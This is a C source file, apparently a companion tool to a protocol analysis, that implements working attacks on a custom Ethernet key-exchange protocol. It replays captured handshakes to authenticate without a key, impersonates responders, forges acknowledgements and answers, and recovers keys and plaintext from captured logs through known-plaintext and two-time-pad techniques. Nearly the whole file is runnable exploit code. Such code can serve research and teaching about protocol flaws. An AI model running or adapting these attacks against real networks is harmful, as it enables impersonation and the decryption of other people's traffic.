// SPDX-License-Identifier: GPL-2.0
/*
 * The attacks of protocol section 9 that need more than a tampered cable.
 * None is given a key.
 *
 *	attack initiate IF MAC C1	A1: become an initiator by replaying a C1 (hex)
 *	attack respond IF		A2: answer whoever starts an exchange on IF
 *	attack acknowledge IF		A17: acknowledge the C5 of whoever starts one
 *	attack answer IF COUNT		send as many forged C2 to whoever starts one
 *	attack break LOG LEN OCTET	A4: from a log of `cable` to the elements and
 *					to all that was said.  DATA frames with LEN
 *					octets behind the Ethernet header are known
 *					to hold only OCTET (hex) from HEADER + 64 on
 *	attack pad LOG OFFSET CRIB	A9: from the text of one message of the log
 *					to that of the other one of the same length
 */
#include "packet.h"
#include <poll.h>

#define WAIT_MS		2500	/* for an answer */
#define WAIT_C1_MS	10000	/* for somebody to begin */
#define SESSIONS	64
#define CRIB_AT		64	/* behind the header; a multiple of the key's length */

static const uint8_t attacker[6] = { 2, 0, 0, 0, 0, 0x66 };

/* Session indices, as they stand in the header. */
static uint8_t *dst_sid(uint8_t *frame)
{
	return frame + ETHER_LEN + 4;
}

static uint8_t *src_sid(uint8_t *frame)
{
	return frame + ETHER_LEN + 8;
}

/* Octets behind the header, by type; suite xor's, and those of the others. */
static int body_len(const uint8_t *frame)
{
	static const int len[2][ACK + 1] = {
		{ 0, 32, 32, 32, 32, 32, 0 },
		{ 0, 96, 80, 48, 48, 48, 24 },
	};

	return len[!!frame[ETHER_LEN + 2]][frame[ETHER_LEN]];
}

/* In the suite of what it answers. */
static void begin_frame(uint8_t *frame, const uint8_t *to, int type, const uint8_t *of,
			const uint8_t *sid)
{
	memset(frame, 0, FRAME_MAX);
	memcpy(frame, to, 6);
	memcpy(frame + 6, attacker, 6);
	frame[12] = ETHERTYPE >> 8;
	frame[13] = ETHERTYPE & 0xff;
	frame[ETHER_LEN] = type;
	frame[ETHER_LEN + 1] = 1;
	frame[ETHER_LEN + 2] = of[ETHER_LEN + 2];
	memcpy(dst_sid(frame), sid, 4);
}

static void send_handshake(int fd, const uint8_t *frame)
{
	int len = HEADER + body_len(frame);

	if (len < FRAME_MIN)
		len = FRAME_MIN;
	if (send(fd, frame, len, 0) != len)
		die("send");
}

/* Waits for a frame of that type; sid, if given, is its receiver's. */
static void await(int fd, int type, const uint8_t *sid, uint8_t *frame)
{
	struct pollfd wait = { .fd = fd, .events = POLLIN };
	int wait_ms = type == C1 ? WAIT_C1_MS : WAIT_MS;
	int tries, len;

	for (tries = 0; tries < 10000 && poll(&wait, 1, wait_ms) == 1; tries++) {
		len = recv(fd, frame, FRAME_MAX, 0);
		if (len < FRAME_MIN || ether_type(frame) != ETHERTYPE ||
		    frame[ETHER_LEN] != type)
			continue;
		if (!sid || !memcmp(dst_sid(frame), sid, 4))
			return;
	}
	fprintf(stderr, "no frame of type %d came\n", type);
	exit(1);
}

static void parse_mac(const char *text, uint8_t mac[6])
{
	unsigned int octet[6];
	int i;

	if (sscanf(text, "%x:%x:%x:%x:%x:%x", &octet[0], &octet[1], &octet[2],
		   &octet[3], &octet[4], &octet[5]) != 6) {
		fprintf(stderr, "'%s' is no address\n", text);
		exit(2);
	}
	for (i = 0; i < 6; i++)
		mac[i] = octet[i];
}

/* C5 = V ^ R_I = C4 ^ C3: what proves the initiator needs no key. */
static int initiate(const char *name, const char *mac, const char *old)
{
	static uint8_t c1[FRAME_MAX], answer[FRAME_MAX], c3[FRAME_MAX], c5[FRAME_MAX];
	uint8_t to[6], own[4], theirs[4];
	int fd = packet_socket(name);

	if (from_hex(old, c1, sizeof(c1)) < FRAME_MIN)
		return 2;
	parse_mac(mac, to);
	memcpy(c1, to, 6);
	memcpy(c1 + 6, attacker, 6);
	memcpy(own, src_sid(c1), 4);
	send_handshake(fd, c1);

	await(fd, C2, own, answer);
	printf("answered\n");
	memcpy(theirs, src_sid(answer), 4);
	begin_frame(c3, to, C3, c1, theirs);
	fill_random(c3 + HEADER, body_len(c3));
	send_handshake(fd, c3);

	await(fd, C4, own, answer);
	begin_frame(c5, to, C5, c1, theirs);
	memcpy(c5 + HEADER, answer + HEADER, body_len(c5));
	mix(c5 + HEADER, c3 + HEADER, body_len(c5));
	send_handshake(fd, c5);
	await(fd, ACK, own, answer);
	printf("acknowledged\n");
	return 0;
}

/* Nothing that the initiator can check depends on a key: anything will do. */
static int respond(const char *name)
{
	static uint8_t c1[FRAME_MAX], in[FRAME_MAX], out[FRAME_MAX];
	uint8_t own[4], theirs[4], to[6];
	int fd = packet_socket(name);

	printf("waiting\n");
	fflush(stdout);
	await(fd, C1, NULL, c1);
	memcpy(theirs, src_sid(c1), 4);
	memcpy(to, c1 + 6, 6);
	fill_random(own, 4);

	begin_frame(out, to, C2, c1, theirs);
	memcpy(src_sid(out), own, 4);
	fill_random(out + HEADER, body_len(out));
	send_handshake(fd, out);
	printf("answered\n");

	await(fd, C3, own, in);
	begin_frame(out, to, C4, c1, theirs);
	fill_random(out + HEADER, body_len(out));
	send_handshake(fd, out);

	await(fd, C5, own, in);
	begin_frame(out, to, ACK, c1, theirs);
	fill_random(out + HEADER, body_len(out));
	send_handshake(fd, out);
	printf("acknowledged\n");
	return 0;
}

static int acknowledge(const char *name)
{
	static uint8_t c1[FRAME_MAX], c5[FRAME_MAX], out[FRAME_MAX];
	int fd = packet_socket(name);

	printf("waiting\n");
	fflush(stdout);
	await(fd, C1, NULL, c1);
	await(fd, C5, NULL, c5);
	begin_frame(out, c1 + 6, ACK, c1, src_sid(c1));
	fill_random(out + HEADER, body_len(out));
	send_handshake(fd, out);
	printf("acknowledged\n");
	return 0;
}

static int answer(const char *name, int count)
{
	static uint8_t c1[FRAME_MAX], c2[FRAME_MAX];
	int fd = packet_socket(name);

	printf("waiting\n");
	fflush(stdout);
	await(fd, C1, NULL, c1);
	begin_frame(c2, c1 + 6, C2, c1, src_sid(c1));
	memcpy(c2 + 6, c1, 6);
	while (count--) {
		fill_random(src_sid(c2), 4);
		fill_random(c2 + HEADER, body_len(c2));
		send_handshake(fd, c2);
	}
	printf("answered\n");
	return 0;
}

/* What a listener puts together of one exchange. */
struct seen {
	uint8_t i_sid[4];
	uint8_t r_sid[4];
	uint8_t c1[KEY_LEN];
	uint8_t c2[KEY_LEN];
	uint8_t c3[KEY_LEN];
	int steps;		/* bit n: Cn was seen */
	uint8_t random_r[KEY_LEN];
	uint8_t random_i[KEY_LEN];
	int broken;
};

static struct seen sessions[SESSIONS];
static int session_count;

static struct seen *by_i_sid(const uint8_t *sid)
{
	int i;

	for (i = session_count - 1; i >= 0; i--)
		if (!memcmp(sessions[i].i_sid, sid, 4))
			return &sessions[i];
	return NULL;
}

static struct seen *by_r_sid(const uint8_t *sid)
{
	int i;

	for (i = session_count - 1; i >= 0; i--)
		if (sessions[i].steps & 1 << C2 && !memcmp(sessions[i].r_sid, sid, 4))
			return &sessions[i];
	return NULL;
}

static void take_exchange(uint8_t *frame, int len, void *arg)
{
	const uint8_t *body = frame + HEADER;
	struct seen *s = NULL;

	(void)len;
	(void)arg;
	switch (frame[ETHER_LEN]) {
	case C1:
		if (by_i_sid(src_sid(frame)) || session_count == SESSIONS)
			return;
		s = &sessions[session_count++];
		memcpy(s->i_sid, src_sid(frame), 4);
		memcpy(s->c1, body, KEY_LEN);
		break;
	case C2:
		s = by_i_sid(dst_sid(frame));
		if (!s)
			return;
		memcpy(s->r_sid, src_sid(frame), 4);
		memcpy(s->c2, body, KEY_LEN);
		break;
	case C3:
		s = by_r_sid(dst_sid(frame));
		if (!s)
			return;
		memcpy(s->c3, body, KEY_LEN);
		break;
	default:
		return;
	}
	s->steps |= 1 << frame[ETHER_LEN];
}

static void keys_from_responder(struct seen *s)
{
	memcpy(s->random_i, s->c3, KEY_LEN);
	mix(s->random_i, s->random_r, KEY_LEN);
	s->broken = 1;
}

struct crib {
	int len;
	uint8_t octet;
};

/* 32 known octets, in step with the key: they give the key. */
static void take_crib(uint8_t *frame, int len, void *arg)
{
	const struct crib *crib = arg;
	struct seen *s;
	int i;

	if (frame[ETHER_LEN] != DATA || len != ETHER_LEN + crib->len)
		return;
	s = by_i_sid(dst_sid(frame));
	if (!s || s->broken || ~s->steps & (1 << C1 | 1 << C2 | 1 << C3))
		return;
	for (i = 0; i < KEY_LEN; i++)
		s->random_r[i] = frame[HEADER + CRIB_AT + i] ^ crib->octet;
	keys_from_responder(s);
}

static uint8_t element[3][KEY_LEN];

/* Two exchanges that chose differently, and their keys, give all elements. */
static int find_elements(void)
{
	uint8_t check[KEY_LEN];
	int i, j;

	for (i = 0; i < session_count; i++) {
		for (j = i + 1; j < session_count; j++) {
			if (!sessions[i].broken || !sessions[j].broken ||
			    !memcmp(sessions[i].c1, sessions[j].c1, KEY_LEN))
				continue;
			memcpy(element[0], sessions[i].c2, KEY_LEN);
			mix(element[0], sessions[i].random_r, KEY_LEN);
			memcpy(element[1], sessions[j].c2, KEY_LEN);
			mix(element[1], sessions[j].random_r, KEY_LEN);
			memcpy(element[2], sessions[i].c1, KEY_LEN);
			mix(element[2], element[1], KEY_LEN);
			memcpy(check, element[0], KEY_LEN);
			mix(check, element[2], KEY_LEN);
			return !memcmp(check, sessions[j].c1, KEY_LEN);
		}
	}
	return 0;
}

/* With the elements, the handshake alone is enough. */
static void break_all(void)
{
	uint8_t pair[KEY_LEN];
	struct seen *s;
	int i, u;

	for (i = 0; i < session_count; i++) {
		s = &sessions[i];
		if (s->broken || ~s->steps & (1 << C1 | 1 << C2 | 1 << C3))
			continue;
		for (u = 0; u < 3; u++) {
			memcpy(pair, element[(u + 1) % 3], KEY_LEN);
			mix(pair, element[(u + 2) % 3], KEY_LEN);
			if (memcmp(pair, s->c1, KEY_LEN))
				continue;
			memcpy(s->random_r, s->c2, KEY_LEN);
			mix(s->random_r, element[u], KEY_LEN);
			keys_from_responder(s);
			printf("decrypted without a crib\n");
		}
	}
}

static void print_text(const uint8_t *text, int len)
{
	for (; len > 0; len--, text++)
		putchar(*text >= ' ' && *text < 127 ? *text : '.');
	putchar('\n');
}

static void print_data(uint8_t *frame, int len, void *arg)
{
	const uint8_t *key;
	struct seen *s;
	int i;

	(void)arg;
	if (frame[ETHER_LEN] != DATA)
		return;
	s = by_i_sid(dst_sid(frame));
	key = s ? s->random_r : NULL;
	if (!s) {
		s = by_r_sid(dst_sid(frame));
		key = s ? s->random_i : NULL;
	}
	if (!s || !s->broken)
		return;
	for (i = HEADER; i < len; i++)
		frame[i] ^= key[(i - HEADER) % KEY_LEN];
	printf("said: ");
	print_text(frame + HEADER, len - HEADER);
}

static int cribbed(void)
{
	int i, count = 0;

	for (i = 0; i < session_count; i++)
		count += sessions[i].broken;
	return count;
}

static int break_log(const char *name, int len, const char *octet)
{
	struct crib crib = { .len = len };
	char hex[2 * KEY_LEN + 1];
	int i;

	if (from_hex(octet, &crib.octet, 1) != 1)
		return 2;
	read_log(name, take_exchange, NULL);
	read_log(name, take_crib, &crib);
	printf("%d sessions seen, %d with the crib\n", session_count, cribbed());
	if (!find_elements()) {
		printf("no two that were enough\n");
		return 1;
	}
	for (i = 0; i < 3; i++) {
		to_hex(element[i], KEY_LEN, hex);
		printf("element %s\n", hex);
	}
	break_all();
	read_log(name, print_data, NULL);
	return 0;
}

struct pad {
	int at;
	const char *crib;
	uint8_t first[FRAME_MAX];
	int first_len;
	int done;
};

/* c1 ^ c2 = p1 ^ p2, so each text is the other's key. */
static void take_pad(uint8_t *frame, int len, void *arg)
{
	int text_len, at;
	struct pad *pad = arg;

	if (frame[ETHER_LEN] != DATA)
		return;
	if (!pad->first_len) {
		memcpy(pad->first, frame, len);
		pad->first_len = len;
		return;
	}
	if (len != pad->first_len || memcmp(dst_sid(frame), dst_sid(pad->first), 4))
		return;
	text_len = strlen(pad->crib);
	at = HEADER + pad->at;
	if (at + text_len > len)
		return;
	mix(frame + at, pad->first + at, text_len);
	mix(frame + at, (const uint8_t *)pad->crib, text_len);
	printf("recovered: ");
	print_text(frame + at, text_len);
	pad->done = 1;
}

int main(int argc, char **argv)
{
	static struct pad pad;

	if (argc == 5 && !strcmp(argv[1], "initiate"))
		return initiate(argv[2], argv[3], argv[4]);
	if (argc == 3 && !strcmp(argv[1], "respond"))
		return respond(argv[2]);
	if (argc == 3 && !strcmp(argv[1], "acknowledge"))
		return acknowledge(argv[2]);
	if (argc == 4 && !strcmp(argv[1], "answer"))
		return answer(argv[2], atoi(argv[3]));
	if (argc == 5 && !strcmp(argv[1], "break"))
		return break_log(argv[2], atoi(argv[3]), argv[4]);
	if (argc == 5 && !strcmp(argv[1], "pad")) {
		pad.at = atoi(argv[3]);
		pad.crib = argv[4];
		read_log(argv[2], take_pad, &pad);
		return !pad.done;
	}
	fprintf(stderr, "usage: see the head of attack.c\n");
	return 2;
}
